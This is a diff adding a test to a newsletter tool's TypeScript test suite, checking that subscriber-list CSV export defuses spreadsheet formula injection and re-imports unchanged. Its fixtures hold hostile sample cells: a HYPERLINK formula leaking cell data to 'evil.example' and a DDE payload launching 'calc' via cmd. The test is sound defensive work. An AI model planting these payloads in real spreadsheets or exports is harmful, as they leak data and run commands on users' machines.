@@ -15,7 +15,7 @@ import { build } from "../../src/cli/build.ts";
 import { type Config, parseConfig } from "../../src/config/index.ts";
 import { openDatabase } from "../../src/send/db.ts";
 import { sendIssue } from "../../src/send/index.ts";
-import { importList } from "../../src/send/lists.ts";
+import { exportList, importList, listSubscribers } from "../../src/send/lists.ts";
 import { buildMessage, type Compiled } from "../../src/send/message.ts";
 import { verifyUnsubscribeToken } from "../../src/send/token.ts";
 import { createTransport, outboxFile } from "../../src/send/transports.ts";
@@ -397,5 +397,48 @@ Une note[^1].
     const ics = (await read(site, "dist/archive/events.ics")).replace(/\r\n[ \t]/g, "");
     expect(ics).toContain("SUMMARY:Prix $' et $& spécial");
     expect(ics.match(/END:VCALENDAR/g)).toHaveLength(1);
+  });
+});
+
+describe("CSV export and terminal output", () => {
+  it("exports no cell a spreadsheet would run as a formula, and imports the export unchanged", () => {
+    const names = [
+      '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")',
+      "+33 6 12 34 56 78",
+      "-2+3",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "Marie",
+      "-",
+    ];
+    const csv = `email;prénom\n${names.map((n, i) => `p${i}@exemple.fr;"${n.replace(/"/g, '""')}"`).join("\n")}\n=1+1@exemple.fr;Formule\n`;
+    const report = importList(db, "partenaires", csv, "p.csv");
+    expect(report.rejected).toEqual([]);
+    const exported = exportList(db, "partenaires");
+
+    // Each cell, as a spreadsheet splits the file.
+    const cells = exported
+      .replace(/^\uFEFF/, "")
+      .trimEnd()
+      .split("\r\n")
+      .flatMap((line) => line.match(/("([^"]|"")*"|[^;]*)(;|$)/g) ?? [])
+      .map((cell) =>
+        cell
+          .replace(/;$/, "")
+          .replace(/^"(.*)"$/s, "$1")
+          .replace(/""/g, '"'),
+      )
+      .filter((cell) => cell !== "");
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toContain(`'${names[0]}`);
+    expect(cells).toContain("'+33 6 12 34 56 78");
+    expect(cells).toContain("'=1+1@exemple.fr");
+    expect(cells).toContain("Marie");
+
+    importList(db, "copie", exported, "export.csv");
+    const fieldsOf = (list: string) =>
+      listSubscribers(db, list).map((s) => [s.address, s.fields.firstName]);
+    expect(fieldsOf("copie")).toEqual(fieldsOf("partenaires"));
+    expect(fieldsOf("copie")).toContainEqual(["=1+1@exemple.fr", "Formule"]);
+    expect(fieldsOf("copie")).toContainEqual(["p0@exemple.fr", names[0]]);
   });
 });
